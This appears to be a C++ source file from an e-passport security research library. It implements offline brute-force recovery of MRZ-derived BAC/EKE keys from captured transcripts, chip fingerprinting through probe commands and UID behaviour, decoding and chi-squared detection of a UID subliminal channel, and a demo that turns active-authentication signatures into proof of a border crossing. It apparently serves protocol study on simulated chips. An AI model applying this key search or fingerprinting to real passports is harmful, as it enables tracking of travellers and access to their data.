// Copyright 2026 The epasslab Authors
// SPDX-License-Identifier: Apache-2.0

#include "epass/attacks.hpp"

#include <boost/math/distributions/chi_squared.hpp>
#include <nlohmann/json.hpp>

#include <algorithm>
#include <array>
#include <thread>

#include "epass/dh.hpp"
#include "epass/signature.hpp"

namespace epass::attacks {

using apdu::Command;
using apdu::Response;

Observation extract_observation(const Transcript& transcript) {
  std::optional<Observation> best;
  std::optional<Observation> pending;
  int last_ins = -1;  // INS of the latest command, -1 if unparsable

  for (const auto& e : transcript.entries()) {
    if (e.phase != Phase::kBac && e.phase != Phase::kEke) continue;
    if (e.direction == Direction::kTerminalToChip) {
      auto cmd = Command::decode(e.payload);
      last_ins = cmd ? cmd->ins : -1;
      if (!cmd) continue;
      if (cmd->ins == apdu::kInsMutualAuthenticate && pending &&
          cmd->data.size() == crypto::kBacCryptogramSize) {
        pending->terminal_cryptogram = cmd->data;
      } else if (cmd->ins == apdu::kInsGeneralAuthenticate &&
                 cmd->data.size() == crypto::kEkeMessageSize) {
        Observation obs;
        obs.kind = Observation::Kind::kEke;
        obs.eke_message = cmd->data;
        best = std::move(obs);
      }
      continue;
    }
    Response r;
    try {
      r = Response::decode(e.payload);
    } catch (const ProtocolError&) {
      continue;
    }
    if (last_ins == apdu::kInsGetChallenge && r.ok() && r.data.size() == 8) {
      pending = Observation{};
      std::copy(r.data.begin(), r.data.end(), pending->rnd_icc.begin());
    } else if (last_ins == apdu::kInsMutualAuthenticate && pending &&
               !pending->terminal_cryptogram.empty()) {
      if (r.ok() && r.data.size() == crypto::kBacCryptogramSize)
        pending->chip_cryptogram = r.data;
      // A completed run beats any earlier attempt; a rejected one only
      // counts if nothing better was recorded.
      if (!best || !pending->chip_cryptogram.empty() ||
          (best->kind == Observation::Kind::kBac && best->chip_cryptogram.empty()))
        best = std::move(*pending);
      pending.reset();
    }
    last_ins = -1;
  }
  if (!best) throw InvalidInput("transcript: no BAC or EKE phase to attack");
  return *best;
}

bool candidate_matches(const Observation& obs, const mrz::MrzInfo& candidate) {
  auto seed = crypto::derive_seed(candidate).seed;
  if (obs.kind == Observation::Kind::kEke) {
    try {
      return crypto::eke_is_group_element(crypto::eke_decode(seed, obs.eke_message));
    } catch (const Error&) {
      return false;
    }
  }
  auto keys = crypto::derive_keys(seed);
  auto s = crypto::bac_open(keys, obs.terminal_cryptogram);
  if (!s || !std::equal(obs.rnd_icc.begin(), obs.rnd_icc.end(), s->begin() + 8))
    return false;
  if (obs.chip_cryptogram.empty()) return true;
  auto r = crypto::bac_open(keys, obs.chip_cryptogram);
  return r && std::equal(obs.rnd_icc.begin(), obs.rnd_icc.end(), r->begin()) &&
         std::equal(s->begin(), s->begin() + 8, r->begin() + 8);
}

std::string AttackResult::to_json() const {
  nlohmann::ordered_json j;
  j["mode"] = kind == Observation::Kind::kBac ? "bac" : "eke";
  j["candidates_tried"] = candidates_tried;
  j["survivor_count"] = survivors.size();
  j["survivors"] = nlohmann::ordered_json::array();
  for (const auto& s : survivors) j["survivors"].push_back(s.value());
  j["elapsed_seconds"] = elapsed.count();
  j["throughput"] = throughput;
  return j.dump(2) + "\n";
}

AttackResult offline_search(const Transcript& transcript,
                            const mrz::CandidateSpace& space, unsigned workers) {
  if (workers == 0) throw InvalidInput("workers: must be at least 1");
  const Observation obs = extract_observation(transcript);
  auto parts = space.partition(workers);
  std::vector<std::vector<mrz::MrzInfo>> found(parts.size());

  auto start = std::chrono::steady_clock::now();
  {
    std::vector<std::jthread> threads;
    threads.reserve(parts.size());
    for (std::size_t w = 0; w < parts.size(); ++w) {
      threads.emplace_back([&, w] {
        const auto& part = parts[w];
        for (std::uint64_t i = 0; i < part.count(); ++i) {
          auto candidate = part.at(i);
          if (candidate_matches(obs, candidate))
            found[w].push_back(std::move(candidate));
        }
      });
    }
  }
  AttackResult result;
  result.elapsed = std::chrono::steady_clock::now() - start;
  result.kind = obs.kind;
  result.candidates_tried = space.count();
  for (auto& f : found)
    result.survivors.insert(result.survivors.end(),
                            std::make_move_iterator(f.begin()),
                            std::make_move_iterator(f.end()));
  std::sort(result.survivors.begin(), result.survivors.end());
  double secs = result.elapsed.count();
  result.throughput = secs > 0 ? static_cast<double>(result.candidates_tried) / secs : 0;
  return result;
}

mrz::CandidateSpace neighborhood_space(const mrz::Mrz& truth,
                                       const mrz::SequentialNumbering& numbering,
                                       int number_bits, int expiry_bits, Rng& rng) {
  if (number_bits < 0 || expiry_bits < 0 || number_bits + expiry_bits > 34)
    throw InvalidInput("neighborhood: bit budget out of range");
  auto n = numbering.parse(truth.document_number);
  if (!n) throw InvalidInput("document_number: not in the sequential format");

  std::uint64_t numbers = 1ULL << number_bits;
  std::uint64_t offset = std::min(rng.uniform(numbers), *n);
  int days = 1 << expiry_bits;
  int day_offset = static_cast<int>(rng.uniform(static_cast<std::uint64_t>(days)));

  mrz::IssuancePolicy policy;
  policy.working_days_only = false;
  policy.number_scheme = mrz::NumberScheme::kSequentialNumeric;
  policy.sequential = numbering;
  mrz::AttackerAssumptions a;
  a.known_birth_date = truth.birth_date;
  a.expiry_window = DateRange{truth.expiry_date.plus_days(-day_offset), days};
  a.number_window = {{*n - offset, numbers}};
  return mrz::candidate_space(policy, a);
}

std::vector<Probe> default_probes() {
  return {
      {"select-mrtd", from_hex("00a4040c07a0000002471001")},
      {"select-unknown-aid", from_hex("00a4040c07a0000000000001")},
      {"unknown-ins", from_hex("00ca0000")},
      {"wrong-class", from_hex("b0b00000")},
      {"read-unprotected", from_hex("00b08100")},
      {"truncated-header", from_hex("00a404")},
      {"lc-mismatch", from_hex("00a4040c05a000")},
  };
}

std::string_view to_string(UidBehavior b) {
  return b == UidBehavior::kFixed ? "fixed" : "varying";
}

std::string ChipFingerprint::to_json() const {
  nlohmann::ordered_json j;
  j["atr"] = to_hex(atr);
  j["uid_behavior"] = to_string(uid_behavior);
  nlohmann::ordered_json errors = nlohmann::ordered_json::object();
  for (const auto& [name, sw] : error_profile) {
    Bytes b;
    append_u16(b, sw);
    errors[name] = to_hex(b);
  }
  j["error_profile"] = errors;
  nlohmann::ordered_json timing = nlohmann::ordered_json::object();
  for (const auto& [name, t] : timing_profile) timing[name] = t.count();
  j["timing_profile_ms"] = timing;
  return j.dump(2) + "\n";
}

ChipFingerprint fingerprint(chip::ChipEndpoint& endpoint,
                            std::span<const Probe> probes, const SimClock& clock,
                            int power_cycles) {
  for (const auto& p : probes) {
    const auto& f = p.frame;
    bool protected_class = !f.empty() && f[0] == apdu::kClaProtected;
    bool access_control =
        f.size() >= 2 && f[0] == apdu::kClaPlain &&
        (f[1] == apdu::kInsGetChallenge || f[1] == apdu::kInsMutualAuthenticate ||
         f[1] == apdu::kInsGeneralAuthenticate);
    if (protected_class || access_control)
      throw InvalidInput("probes: '" + p.name + "' is not a pre-BAC probe");
  }
  if (power_cycles < 1) throw InvalidInput("power_cycles: must be at least 1");

  ChipFingerprint fp;
  std::vector<Bytes> uids;
  for (int i = 0; i < power_cycles; ++i) {
    auto on = endpoint.power_on();
    if (i == 0) fp.atr = on.atr;
    uids.push_back(std::move(on.uid));
  }
  bool fixed = std::all_of(uids.begin(), uids.end(),
                           [&](const Bytes& u) { return u == uids.front(); });
  fp.uid_behavior = fixed && power_cycles > 1 ? UidBehavior::kFixed
                                              : UidBehavior::kVarying;

  for (const auto& p : probes) {
    auto before = clock.elapsed();
    Bytes reply = endpoint.transmit(p.frame);
    fp.timing_profile[p.name] =
        std::chrono::duration_cast<chip::Millis>(clock.elapsed() - before);
    fp.error_profile[p.name] =
        reply.size() >= 2 ? static_cast<std::uint16_t>(reply[reply.size() - 2] << 8 |
                                                        reply.back())
                          : 0;
  }
  return fp;
}

std::optional<std::string> subliminal_decode(ByteView uid,
                                             const crypto::UidPrivateKey& key) {
  return crypto::subliminal_open(key, uid);
}

std::string UniformityReport::to_json() const {
  nlohmann::ordered_json j;
  j["samples"] = samples;
  j["chi_squared"] = chi_squared;
  j["degrees_of_freedom"] = degrees_of_freedom;
  j["p_value"] = p_value;
  j["alpha"] = alpha;
  j["flagged_nonrandom"] = flagged_nonrandom;
  return j.dump(2) + "\n";
}

UniformityReport subliminal_detect(std::span<const Bytes> uids, double alpha) {
  std::array<std::uint64_t, 256> counts{};
  std::uint64_t total = 0;
  for (const auto& uid : uids)
    for (auto b : uid) {
      ++counts[b];
      ++total;
    }
  if (total == 0) throw InvalidInput("uids: no bytes to test");

  UniformityReport rep;
  rep.samples = uids.size();
  rep.alpha = alpha;
  double expected = static_cast<double>(total) / 256.0;
  for (auto c : counts) {
    double d = static_cast<double>(c) - expected;
    rep.chi_squared += d * d / expected;
  }
  boost::math::chi_squared dist(rep.degrees_of_freedom);
  rep.p_value = boost::math::cdf(boost::math::complement(dist, rep.chi_squared));
  rep.flagged_nonrandom = rep.p_value < alpha;
  return rep;
}

ByteArray<8> encode_challenge(const BorderEvent& event) {
  if (event.minute_of_day < 0 || event.minute_of_day >= 24 * 60)
    throw InvalidInput("minute_of_day: must be within 0..1439");
  if (event.date.days_since_epoch() < 0)
    throw InvalidInput("date: before 1970-01-01");
  Bytes b;
  append_u32(b, static_cast<std::uint32_t>(event.date.days_since_epoch()));
  append_u16(b, static_cast<std::uint16_t>(event.minute_of_day));
  append_u16(b, event.location);
  ByteArray<8> out{};
  std::copy(b.begin(), b.end(), out.begin());
  return out;
}

BorderEvent decode_challenge(const ByteArray<8>& challenge) {
  ByteReader r(challenge);
  BorderEvent e;
  e.date = Date::from_days(static_cast<std::int32_t>(r.u32()));
  e.minute_of_day = r.u16();
  e.location = r.u16();
  return e;
}

std::string Evidence::to_json() const {
  nlohmann::ordered_json j;
  j["date"] = event.date.iso();
  j["minute_of_day"] = event.minute_of_day;
  j["location"] = event.location;
  j["challenge"] = to_hex(challenge);
  j["signature"] = to_hex(signature);
  j["dg15"] = to_hex(dg15);
  j["security_object"] = to_hex(security_object);
  return j.dump(2) + "\n";
}

bool verify_evidence(const Evidence& evidence, const chip::TrustStore* trust) {
  try {
    if (evidence.challenge != encode_challenge(evidence.event)) return false;
  } catch (const InvalidInput&) {
    return false;
  }
  if (!crypto::verify(evidence.dg15, evidence.challenge, evidence.signature))
    return false;
  if (!trust) return true;
  try {
    auto sod = chip::SecurityObject::decode(evidence.security_object);
    return chip::verify_passive(sod, {{kDgAaKey, evidence.dg15}}, *trust).ok;
  } catch (const Error&) {
    return false;
  }
}

ChallengeDemoOutcome challenge_semantics_demo(chip::ChipEndpoint& endpoint,
                                              const mrz::Mrz& mrz,
                                              const BorderEvent& event,
                                              const chip::TrustStore& trust,
                                              Rng rng) {
  auto challenge = encode_challenge(event);
  terminal::TerminalConfig config{trust, [challenge] { return challenge; }};
  terminal::Terminal term(std::move(config), std::move(rng));
  terminal::InspectionOptions options;
  options.chip_auth = false;
  const auto& report = term.inspect(endpoint, mrz, options);

  ChallengeDemoOutcome out;
  if (!report.bac_ok) {
    out.reason = "no session with the chip";
    return out;
  }
  if (!report.data_groups.contains(kDgAaKey) || !term.last_aa()) {
    out.reason = "chip offers no active authentication";
    return out;
  }
  out.applicable = true;
  if (!report.aa_ok) {
    out.reason = "active authentication failed";
    return out;
  }
  Evidence ev;
  ev.event = event;
  ev.challenge = term.last_aa()->challenge;
  ev.signature = term.last_aa()->signature;
  ev.dg15 = report.data_groups.at(kDgAaKey);
  ev.security_object = term.security_object()->encode();
  out.evidence = std::move(ev);
  return out;
}

}  // namespace epass::attacks
